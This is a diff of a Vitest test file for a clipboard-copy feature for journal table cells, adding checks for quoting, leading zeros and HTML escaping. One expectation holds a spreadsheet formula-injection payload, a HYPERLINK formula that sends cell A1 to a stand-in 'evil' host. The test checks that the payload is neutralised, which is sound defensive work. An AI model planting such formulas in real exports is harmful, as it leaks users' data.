@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { figuresOf, selectedText } from '@/components/journal/lines/selected-cells';
+import { figuresOf, selectedCells } from '@/components/journal/lines/selected-cells';
 import { cellsIn, mostSelectedLines } from '@/components/journal/lines/selection-size';
 import type { JournalRow } from '@/lib/contract/journal/journal';
 import { journalField } from '@/lib/domain/journal/field-index';
@@ -13,6 +13,8 @@ const lines: JournalRow[] = Array.from({ length: 20 }, (_, at) => ({
   Quantity: at === 4 ? 0.1234567 : at,
   Amount: at === 5 ? 1_005.5 : 0.1,
 }));
+const selectedText = async (...selection: Parameters<typeof selectedCells>) =>
+  (await selectedCells(...selection)).text;
 const read = (top: number, bottom: number) => Promise.resolve(lines.slice(top, bottom + 1));
 const band = (top: number, bottom: number, left: number, right: number) => ({
   top,
@@ -35,7 +37,33 @@ describe('selected cells', () => {
     expect(await selectedText([band(4, 5, 2, 3)], fields, read, false)).toBe('0.1234567\t0.1\n5\t1005.5');
     expect(await selectedText([band(2, 3, 1, 1)], fields, read, false)).toBe('11/15/2026\n');
     const text = await selectedText([band(1, 2, 0, 0)], fields, read, false);
-    expect(text?.split('\n')).toEqual(['\'=HYPERLINK("http://evil/?"&A1)', 'two cells or lines']);
+    expect(text.split('\n')).toEqual(['\'=HYPERLINK("http://evil/?"&A1)', 'two cells or lines']);
+  });
+
+  it('keep quotes, zeros and sums of many digits as they are', async () => {
+    const [item, amount] = ['ItemNo', 'Amount'].flatMap((name) => journalField(name) ?? []);
+    const one = { ItemNo: '00010', Amount: '-12345678901234567.125' };
+    const many = [one, { ItemNo: '"A" & <B>', Amount: 1_234.5 }, { ItemNo: '', Amount: '' }];
+    const copied = await selectedCells(
+      [band(0, 2, 0, 1)],
+      item && amount ? [item, amount] : [],
+      () => Promise.resolve(many),
+      false,
+    );
+    expect(copied.text).toBe('00010\t-12345678901234567.125\n"""A"" & <B>"\t1234.5\n\t');
+    const table = /<table>(.*)<\/table>/s.exec(copied.html)?.[1] ?? '';
+    const cells = [...table.matchAll(/<td([^>]*)>([^<]*)<\/td>/g)].map(([, how = '', text]) => ({
+      isText: how.includes("mso-number-format:'\\@'"),
+      text,
+    }));
+    expect(cells).toEqual([
+      { isText: true, text: '00010' },
+      { isText: false, text: '-12345678901234567.125' },
+      { isText: true, text: '"A" &amp; &lt;B>' },
+      { isText: false, text: '1234.5' },
+      { isText: true, text: '' },
+      { isText: false, text: '' },
+    ]);
   });
 
   it('stand below their own heads, also where ranges have different columns', async () => {
@@ -53,6 +81,5 @@ describe('selected cells', () => {
     expect(cellsIn(all)).toBe(4 * (mostSelectedLines + 1));
     const never = () => Promise.reject(new Error('nobody reads so many'));
     expect(await figuresOf(all, fields, never)).toBeNull();
-    expect(await selectedText(all, fields, never, true)).toBeNull();
   });
 });
